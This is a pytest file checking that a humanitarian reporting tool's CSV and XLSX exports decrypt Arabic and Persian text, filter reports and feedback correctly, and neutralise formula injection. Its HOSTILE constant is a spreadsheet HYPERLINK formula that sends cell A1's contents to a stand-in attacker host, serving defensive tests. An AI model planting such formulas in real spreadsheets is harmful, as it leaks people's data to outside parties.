"""`mashwara export reports` and `mashwara export feedback`: decrypted, filtered,
readable in a spreadsheet, and inert when a report's text looks like a formula."""

import csv
import datetime as dt
import io

import time_machine
from openpyxl import load_workbook

from tests.community import ANONYMOUS, NAMED, person, say_all
from tests.test_exports import run_cli

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(result) -> list[list[str]]:
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("\ufeff")
    return list(csv.reader(io.StringIO(result.stdout[1:])))


def report(services, lang="en", description=NAMED[6], category="1", anonymous=False):
    answers = list(ANONYMOUS if anonymous else NAMED)
    answers[1], answers[6] = category, description
    say_all(person(services, lang=lang), answers)


def test_reports_export_decrypts_and_keeps_arabic_script(services, settings):
    report(services, lang="ar", description="اعتقلوا أخي عند الحاجز")
    header, row = rows_of(run_cli(settings, "export", "reports"))
    line = dict(zip(header, row, strict=True))
    assert line["description"] == "اعتقلوا أخي عند الحاجز"
    assert (line["category"], line["province"], line["status"], line["anonymous"]) == (
        "rights", "kabul", "new", "no")
    assert line["contact_id"] != ""


def test_an_anonymous_report_exports_without_a_contact(services, settings):
    report(services, anonymous=True)
    header, row = rows_of(run_cli(settings, "export", "reports"))
    assert dict(zip(header, row, strict=True))["contact_id"] == ""


def test_a_hostile_report_text_stays_text_in_csv_and_xlsx(services, settings, tmp_path):
    report(services, description=HOSTILE)
    _, row = rows_of(run_cli(settings, "export", "reports"))
    assert "'" + HOSTILE in row
    path = tmp_path / "reports.xlsx"
    result = run_cli(settings, "export", "reports", "--format", "xlsx", "-o", str(path))
    assert result.exit_code == 0
    sheet = load_workbook(path).active
    cells = [c for c in next(sheet.iter_rows(min_row=2)) if c.value == HOSTILE]
    assert cells and cells[0].data_type == "s"


def test_reports_are_filtered_by_category_status_province_and_date(services, settings):
    with time_machine.travel(dt.datetime(2026, 11, 1, 9, tzinfo=dt.UTC)):
        report(services, category="3")
    with time_machine.travel(dt.datetime(2026, 11, 20, 9, tzinfo=dt.UTC)):
        report(services, category="4")
    assert len(rows_of(run_cli(settings, "export", "reports", "--category", "gbv"))) == 2
    assert len(rows_of(run_cli(settings, "export", "reports", "--status", "new"))) == 3
    assert len(rows_of(run_cli(settings, "export", "reports", "--status", "closed"))) == 1
    assert len(rows_of(run_cli(settings, "export", "reports", "--province", "herat"))) == 1
    recent = rows_of(run_cli(settings, "export", "reports", "--since", "2026-11-10"))
    assert [r[3] for r in recent[1:]] == ["child"]
    early = rows_of(run_cli(settings, "export", "reports", "--until", "2026-11-10"))
    assert [r[3] for r in early[1:]] == ["gbv"]


def test_feedback_export(services, settings):
    sim = person(services, lang="fa", province="herat")
    say_all(sim, ["نظر", "۶", "+1 " + HOSTILE])
    say_all(person(services), ["feedback", "1", "Roads are fine."])
    header, *rows = rows_of(run_cli(settings, "export", "feedback", "--province", "herat"))
    assert header[:3] == ["reference", "created_at", "topic"]
    (row,) = rows
    assert (row[2], row[3], row[4]) == ("other", "herat", "'+1 " + HOSTILE)
    assert len(rows_of(run_cli(settings, "export", "feedback", "--category", "services"))) == 2


def test_export_days_are_the_deployments_days_as_on_the_dashboard(app, services, settings):
    from tests.dashboard_builders import signed_in
    from tests.dashboard_work import make_feedback

    with time_machine.travel(dt.datetime(2026, 11, 9, 12, 0, tzinfo=dt.UTC)):
        early = make_feedback(services, text="16:30 on the 9th in Kabul")
    with time_machine.travel(dt.datetime(2026, 11, 9, 21, 0, tzinfo=dt.UTC)):
        late = make_feedback(services, text="01:30 on the 10th in Kabul")
        report(services)

    def references(*args) -> list[str]:
        return [row[0] for row in rows_of(run_cli(settings, "export", "feedback", *args))[1:]]
    assert references("--since", "2026-11-10") == [late]
    assert references("--until", "2026-11-09") == [early]  # the day named is included
    assert len(rows_of(run_cli(settings, "export", "reports", "--until", "2026-11-10"))) == 2
    assert len(rows_of(run_cli(settings, "export", "reports", "--until", "2026-11-09"))) == 1
    client = signed_in(app, services, "coordinator")
    page = client.get("/dashboard/exports/feedback.csv?since=2026-11-10").get_data(as_text=True)
    assert late in page and early not in page  # the dashboard reads the same days
    helped = run_cli(settings, "export", "--help").output
    assert "(UTC)" not in helped and "in the deployment's time zone" in helped
